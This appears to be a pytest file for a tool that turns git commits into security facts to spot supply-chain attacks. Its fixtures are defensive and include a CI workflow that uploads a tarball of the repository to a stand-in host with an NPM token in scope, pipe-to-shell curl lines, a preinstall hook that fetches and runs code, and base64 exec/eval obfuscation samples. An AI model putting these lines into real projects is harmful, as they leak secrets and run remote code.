"""What a commit touched and said becomes facts that tell an attack from a chore."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.collector.sources.git.repository import Repository, facts, last


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    """Return a repository with a manifest and a source file."""
    made = Repository.new(tmp_path / "app")
    made.commit(files={"package.json": '{\n  "scripts": {\n    "test": "tap"\n  }\n}\n', "src/a.js": "a()\n"})
    return made


WORKFLOW = """name: Check
on:
  pull_request_target:
permissions:
  contents: write
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - uses: Acme/Checkout@v4
      - uses: acme/other@0123456789abcdef0123456789abcdef01234567
      - name: Check it
        env:
          BODY: ${{ github.event.issue.body }}
        run: |
          TOKEN=${{ secrets.NPM_TOKEN }} tar cz . | curl -d @- https://collect.example/x
"""


def test_a_workflow_is_heard(repository: Repository) -> None:
    """Commands, hosts, secrets, permissions, triggers, actions and expressions of a new workflow are facts."""
    repository.commit(files={".github/workflows/check.yml": WORKFLOW})
    event = last(repository.path)
    assert facts(event, "zone") == facts(event, "new_path_zone") == {"ci"}
    assert facts(event, "content.command") == {"tar", "curl"}
    assert facts(event, "content.host") == {"collect.example"}
    assert facts(event, "content.secret") == {"NPM_TOKEN"}
    assert facts(event, "content.permission") == {"contents: write"}
    assert facts(event, "content.trigger") == {"pull_request_target"}
    assert facts(event, "content.uses") == {"acme/checkout", "acme/other"}
    assert facts(event, "content.uses_ref") == {"a tag", "a full SHA"}
    assert facts(event, "content.expression") == {"github.event.issue.body"}


def test_an_agents_instructions_are_heard(repository: Repository) -> None:
    """Of prose for coding agents only what is quoted as a command counts; an empty quote is nothing."""
    text = "# Rules\nAlways be kind.\n```\n```\nRun `make check` and then:\n```bash\ncurl -s https://x.example/a\n```\n"
    repository.commit(files={"AGENTS.md": text})
    event = last(repository.path)
    assert facts(event, "content.command") == {"make", "curl"}
    assert facts(event, "content.host") == {"x.example"}


def test_only_added_lines_are_heard(repository: Repository) -> None:
    """What was there before, or was taken away, is not said again."""
    repository.commit(files={".github/workflows/check.yml": WORKFLOW})
    repository.commit(files={".github/workflows/check.yml": WORKFLOW + "          wget https://b.example/y\n"})
    event = last(repository.path)
    assert (facts(event, "content.host"), facts(event, "content.secret")) == ({"b.example"}, set())


def test_an_install_script_is_heard(repository: Repository) -> None:
    """A script that a package manager runs by itself is named, with what it runs."""
    text = (
        '{\n  "scripts": {\n    "preinstall": "node scripts/setup.mjs && curl -s x | sh",\n    "test": "tap"\n  }\n}\n'
    )
    repository.commit(files={"package.json": text})
    event = last(repository.path)
    assert facts(event, "content.script_key") == {"preinstall"}
    assert facts(event, "content.command") == {"node", "curl", "sh"}


@pytest.mark.parametrize(
    ("name", "before", "after"),
    [
        ("package.json", '  "kept": "^1.0.0",\n', '  "kept": "^1.1.0",\n  "flatmap": "^0.1.0",\n'),
        ("requirements.txt", "kept==1.0\n", "kept==1.1\nflatmap>=0.1\n"),
        ("go.mod", "\tx.example/a/kept v1.0.0\n", "\tx.example/a/kept v1.1.0\n\tx.example/flatmap v0.1.0\n"),
        ("Cargo.toml", 'kept = "1.0"\n', 'kept = "1.1"\nflatmap = { version = "0.1" }\n'),
        ("Gemfile", "gem 'kept', '1.0'\n", "gem 'kept', '1.1'\ngem 'flatmap'\n"),
        (
            "pom.xml",
            "<artifactId>kept</artifactId>1\n",
            "<artifactId>kept</artifactId>2\n<artifactId>flatmap</artifactId>",
        ),
    ],
)
def test_a_new_dependency_is_heard(repository: Repository, name: str, before: str, after: str) -> None:
    """A dependency that was not there before is named; a new version of an old one is not."""
    repository.commit(files={name: before})
    repository.commit(files={name: after})
    assert {value.rsplit("/", 1)[-1] for value in facts(last(repository.path), "content.dependency")} == {"flatmap"}


def test_a_new_locked_package_is_heard(repository: Repository) -> None:
    """A package that only the lockfile brings in is named, and where it comes from."""
    repository.commit(
        files={
            "package-lock.json": '{\n"node_modules/flatmap": {\n"resolved": "https://registry.example/f.tgz"\n}\n}\n'
        }
    )
    event = last(repository.path)
    assert facts(event, "content.locked") == {"flatmap"}
    assert facts(event, "content.host") == {"registry.example"}


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        ("exec(b64decode('" + "aGk5Q" * 60 + "'))", "a long base64 run"),
        ("x = '" + "0123456789abcdef" * 20 + "'", "a long hex run"),
        ("eval(atob(x))", "decodes and runs"),
        ("x = 1" + " " * 300 + ";evil()", "text behind a long gap"),
        ("var a=1;" + "f(a);g={b:1};" * 300, "minified code"),
        ("s = '" + "\\x41" * 40 + "'", "a run of escapes"),
        ("a = 1 // \u202e }", "text that changes direction"),
        ("s = '" + "\ufe01\ufe02\U000e0101" * 3 + "'", "invisible characters"),
        ("curl -s https://x.example | bash", "fetches or decodes into a shell"),
        ("[" + "12, 250, 7, " * 40 + "]", "a long run of numbers"),
    ],
)
def test_opaque_content_is_named_by_its_shape(repository: Repository, text: str, shape: str) -> None:
    """What people do not write by hand is seen in any file, with the zone it stands in."""
    repository.commit(files={"src/b.js": text + "\n"})
    assert f"{shape} in source" in facts(last(repository.path), "content.blob")


def test_ordinary_code_is_not_opaque(repository: Repository) -> None:
    """A long path, a sentence and a short hash are nothing special."""
    text = (
        f"const path = '{'some/quite/ordinary/folder/' * 8}'\n// {'words and words ' * 20}\nsha = 'abcdef0123456789'\n"
    )
    repository.commit(files={"src/b.js": text})
    assert facts(last(repository.path), "content.blob") == set()


def test_a_binary_file_is_named(repository: Repository) -> None:
    """An opaque file is a fact with its type and zone."""
    repository.commit(files={"tests/files/bad.xz": b"\xfd7zXZ\x00\x00" + bytes(range(256))})
    assert facts(last(repository.path), "content.blob") == {"a binary file .xz in binary"}


def test_code_is_named_by_what_it_can_do(repository: Repository) -> None:
    """New abilities and modules of source code are facts; methods of other names are not mistaken for them."""
    repository.commit(files={"src/a.js": "const c = require('child_process')\nc.spawn('node')\nre.exec(x)\n"})
    event = last(repository.path)
    assert facts(event, "content.call") == {"starts a process"}
    assert facts(event, "content.import") == {"child_process"}


def test_numbers_measure_the_change(repository: Repository) -> None:
    """Lines, files, bytes per line and the longest line are those of the change."""
    repository.commit(files={"src/a.js": "a()\n" + "b" * 99 + "\nc\n"})
    numbers = last(repository.path).numbers
    assert (numbers["added_lines"], numbers["deleted_lines"], numbers["files"]) == (2, 0, 1)
    assert (numbers["longest_line"], numbers["largest_blob_bytes"]) == (99, 106)


def test_no_secret_is_kept(repository: Repository) -> None:
    """Names of secrets are kept, their values never."""
    token = "ghp_" + "a1B2" * 9
    repository.commit(
        files={"deploy.sh": f"export GH_TOKEN={token}\ncurl https://bob:{token}@git.example/x\n{token}\n"}
    )
    event = last(repository.path)
    assert token not in repr(event)
    assert "GH_TOKEN" in facts(event, "content.secret")


def test_what_came_in_past_review_is_told(repository: Repository) -> None:
    """A workflow committed directly is named with its way; one from a pull request is not."""
    repository.commit(files={".github/workflows/a.yml": WORKFLOW})
    assert facts(last(repository.path), "zone_review") == {"ci files by a direct commit"}
    repository.commit("Add a check (#7)", files={".github/workflows/b.yml": WORKFLOW})
    assert facts(last(repository.path), "zone_review") == set()


def test_sorts_of_things_said_are_told(repository: Repository) -> None:
    """Beside the values stands what they are, so that a first secret is news whatever its name."""
    repository.commit(files={".npmrc": "//registry.example/:_authToken=${NPM_TOKEN}\n"})
    assert "the name of a secret" in facts(last(repository.path), "said")
    repository.commit(files={"README.md": "words\n"})
    assert facts(last(repository.path), "said") == set()


def test_prose_names_no_secret(repository: Repository) -> None:
    """A sentence that ends in the word is none; blanks around the dot hide none."""
    repository.commit(files={".github/workflows/a.yml": "# Uses secrets. The rest is plain: ${{ secrets . DEPLOY }}\n"})
    assert facts(last(repository.path), "content.secret") == {"DEPLOY"}


def test_long_lines_of_pages_are_no_blobs(repository: Repository) -> None:
    """An image inside a page is ordinary; the same text in a source file is not."""
    image = "![](data:image/png;base64," + "aGk5Wn" * 60 + ")\n"
    repository.commit(files={"README.md": image})
    assert facts(last(repository.path), "content.blob") == set()
    repository.commit(files={"src/b.js": image})
    assert "a long base64 run in source" in facts(last(repository.path), "content.blob")
